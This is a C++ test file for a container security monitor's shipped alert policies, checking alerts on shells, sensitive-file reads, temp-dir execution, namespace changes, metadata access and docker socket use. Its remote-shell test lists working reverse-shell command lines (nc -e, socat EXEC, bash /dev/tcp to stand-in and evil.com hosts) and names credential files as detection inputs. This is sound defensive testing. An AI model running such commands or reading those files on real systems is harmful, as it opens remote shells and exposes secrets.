// SPDX-License-Identifier: Apache-2.0
// The policies that nswarden comes with: they load without a word, and say what they should.
#include <gmock/gmock.h>

#include "tests/rule/acts.h"

namespace nsw::rule::test {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

const std::string kPolicies = NSW_SOURCE_DIR "/policies";

class Shipped : public testing::Test {
 protected:
  void SetUp() override {
    const Loaded loaded = LoadPolicies({kPolicies}, {.check_owner = false});
    for (const Diagnostic& d : loaded.diagnostics) ADD_FAILURE() << d.Text();
    set_ = loaded.set;
    ASSERT_NE(set_, nullptr);
    policies_ = set_->Select({});
  }

  std::vector<std::string> Alerts(const event::Event& event) const {
    Matches matches;
    set_->Match(event, policies_, matches);
    EXPECT_FALSE(matches.unknown);
    std::vector<std::string> names;
    for (size_t i = 0; i < matches.rules.size(); i++) {
      names.push_back(matches.rules[i]->name);
      EXPECT_EQ(RenderOutput(*matches.rules[i]->output, event).find("<NA>"), std::string::npos)
          << names.back();
    }
    return names;
  }

  std::unique_ptr<Act> Exec(const std::string& path, const std::string& cmdline,
                            uint32_t exe_flags = 0) const {
    auto act = Act::Exec(path);
    act->process.exepath = path;
    act->process.name = path.substr(path.rfind('/') + 1);
    act->process.cmdline = cmdline;
    act->process.exe_flags = exe_flags;
    return act;
  }

  std::shared_ptr<const PolicySet> set_;
  std::vector<uint32_t> policies_;
};

TEST_F(Shipped, TenRulesForEveryContainerThatOnlyAlert) {
  size_t rules = 0;
  for (const PolicyInfo& policy : set_->policies()) {
    rules += policy.rules;
    EXPECT_FALSE(policy.has_deny) << policy.name;
  }
  EXPECT_EQ(rules, 10U);
  EXPECT_EQ(policies_.size(), set_->policies().size());
}

TEST_F(Shipped, Shell) {
  auto act = Exec("/bin/sh", "sh");
  EXPECT_THAT(Alerts(act->event), IsEmpty());
  act->process.tty = 34816;
  EXPECT_THAT(Alerts(act->event), ElementsAre("Terminal shell in container"));
  act->header().result = -2;
  EXPECT_THAT(Alerts(act->event), IsEmpty());
}

TEST_F(Shipped, SensitiveFiles) {
  for (const char* path :
       {"/etc/shadow", "/etc/sudoers.d/x", "/root/.ssh/id_rsa", "/home/a/.aws/credentials"}) {
    EXPECT_THAT(Alerts(Act::Open(path)->event), ElementsAre("Sensitive file read")) << path;
  }
  for (const char* path : {"/etc/passwd", "/root/.ssh/id_rsa.pub", "/srv/shadow"}) {
    EXPECT_THAT(Alerts(Act::Open(path)->event), IsEmpty()) << path;
  }
  const auto by = [&](const char* program, const char* path) {
    auto act = Act::Open(path);
    act->process.name = program;
    return Alerts(act->event);
  };
  EXPECT_THAT(by("sshd", "/etc/shadow"), IsEmpty());
  EXPECT_THAT(by("ssh", "/root/.ssh/id_rsa"), IsEmpty());
  EXPECT_THAT(by("ssh", "/etc/shadow"), ElementsAre("Sensitive file read"));
  EXPECT_THAT(by("sshd", "/root/.ssh/id_rsa"), ElementsAre("Sensitive file read"));
}

TEST_F(Shipped, SystemFiles) {
  EXPECT_THAT(Alerts(Act::Open("/etc/cron.d/x", O_WRONLY)->event),
              ElementsAre("System file changed"));
  EXPECT_THAT(Alerts(Act::Open("/usr/bin/x", O_RDONLY | O_CREAT, true)->event),
              ElementsAre("System file changed"));
  EXPECT_THAT(Alerts(Act::Open("/etc/hosts", O_WRONLY)->event), IsEmpty());
  EXPECT_THAT(Alerts(Act::Open("/etcx/hosts", O_WRONLY)->event), IsEmpty());
  EXPECT_THAT(Alerts(Act::Open("/etc/nginx/conf.d/sedA1b2C3", O_RDWR | O_CREAT, true)->event),
              IsEmpty());
  EXPECT_THAT(Alerts(Act::Open("/etc/nginx-evil", O_WRONLY)->event),
              ElementsAre("System file changed"));
  EXPECT_THAT(Alerts(Act::Open("/etc/cron.d/x")->event), IsEmpty());
}

TEST_F(Shipped, Programs) {
  EXPECT_THAT(Alerts(Exec("/tmp/x", "x")->event),
              ElementsAre("Program run from a temporary place"));
  EXPECT_THAT(Alerts(Exec("/memfd:x", "x", NSW_EXE_MEMFD)->event),
              ElementsAre("Program run from a temporary place"));
  EXPECT_THAT(Alerts(Exec("/opt/x", "x", NSW_EXE_UPPER)->event),
              ElementsAre("Program not in the image"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/apt-get", "apt-get update")->event),
              ElementsAre("Package manager run"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/npm", "npm ci --omit=dev")->event),
              ElementsAre("Package manager run"));
  for (const char* cmdline : {"npm start", "npm run build", "pip --version"}) {
    const std::string name(cmdline, std::strcspn(cmdline, " "));
    EXPECT_THAT(Alerts(Exec("/usr/bin/" + name, cmdline)->event), IsEmpty()) << cmdline;
  }
  EXPECT_THAT(Alerts(Exec("/usr/bin/socat", "socat TCP:x:1 EXEC:/bin/sh")->event),
              ElementsAre("Remote shell tool run"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/socat", "socat TCP-LISTEN:1 TCP:x:2")->event), IsEmpty());
  EXPECT_THAT(Alerts(Exec("/usr/bin/nsenter", "nsenter -t 1 -m")->event),
              ElementsAre("Change of namespace"));
  EXPECT_THAT(Alerts(Exec("/usr/sbin/nginx", "nginx -g x")->event), IsEmpty());
}

TEST_F(Shipped, NamespacesThatAProgramItselfAsksFor) {
  EXPECT_THAT(Alerts(Act::Unshare(0)->event), ElementsAre("Change of namespace"));
  EXPECT_THAT(Alerts(Act::Unshare(-EPERM)->event), IsEmpty());
  const auto tool = Act::Unshare(0);
  tool->process.name = "unshare";
  EXPECT_THAT(Alerts(tool->event), IsEmpty()) << "that it was run is told already";
}

TEST_F(Shipped, RemoteShells) {
  const auto run = [&](const std::string& cmdline) {
    const std::string name = cmdline.substr(0, cmdline.find(' '));
    return Alerts(Exec("/bin/" + name, cmdline)->event);
  };
  for (const char* cmdline :
       {"nc -e /bin/sh 10.0.0.1 1", "nc 10.0.0.1 1 -e/bin/sh", "nc -lve sh", "busybox nc x 1 -e sh",
        "ncat --sh-exec=id x 1", "socat TCP:x:1 SYSTEM:sh", "bash -c sh >/dev/tcp/10.0.0.1/1",
        "bash -c cat </dev/udp/$HOST/1", "bash -c x </dev/tcp/127.0.0.1/1; y >/dev/tcp/1.2.3.4/1",
        "bash -c x >/dev/tcp/localhost.evil.com/1", "bash -c x >/dev/tcp/127.evil.com/1",
        "bash -c x >/dev/tcp/12.0.0.1/1", "bash -c x >/dev/tcp/lo.evil.com/1"}) {
    EXPECT_THAT(run(cmdline), ElementsAre("Remote shell tool run")) << cmdline;
  }
  for (const char* cmdline : {"nc -z localhost 80", "nc -w 1 echo 7", "busybox ls -e",
                              "bash -c exec 3<>/dev/tcp/127.0.0.1/9000",
                              "bash -c </dev/tcp/localhost/8080", "cat /dev/null"}) {
    EXPECT_THAT(run(cmdline), IsEmpty()) << cmdline;
  }
}

TEST_F(Shipped, Network) {
  EXPECT_THAT(Alerts(Act::Connect("169.254.169.254", 80)->event),
              ElementsAre("Cloud metadata service contacted"));
  EXPECT_THAT(Alerts(Act::Connect("10.0.0.1", 80)->event), IsEmpty());
  EXPECT_THAT(Alerts(Act::Unix("/run/docker.sock")->event),
              ElementsAre("Container runtime socket used"));
  EXPECT_THAT(Alerts(Act::Unix("/host/var/run/docker.sock")->event),
              ElementsAre("Container runtime socket used"));
  EXPECT_THAT(Alerts(Act::Unix("/run/php.sock")->event), IsEmpty());
}

TEST(Examples, Load) {
  const Loaded loaded = LoadPolicies({kPolicies + "/examples"}, {.check_owner = false});
  for (const Diagnostic& d : loaded.diagnostics) ADD_FAILURE() << d.Text();
  ASSERT_NE(loaded.set, nullptr);
  container::Container nginx;
  nginx.image = container::ParseImage("nginx:1.25");
  EXPECT_EQ(loaded.set->Select(nginx).size(), 1U);
}

// How fast this goes is measured by tools/bench, on a quiet machine and without sanitizers.
TEST_F(Shipped, AnOrdinaryActOfAServerMatchesNothing) {
  std::vector<std::unique_ptr<Act>> acts;
  acts.push_back(Act::Open("/usr/share/nginx/html/index.html"));
  acts.push_back(Act::Connect("10.1.2.3", 443));
  acts.push_back(Act::Exec("/usr/sbin/nginx"));
  acts.push_back(Act::Exit());
  for (const auto& act : acts) EXPECT_THAT(Alerts(act->event), IsEmpty());
}

}  // namespace
}  // namespace nsw::rule::test
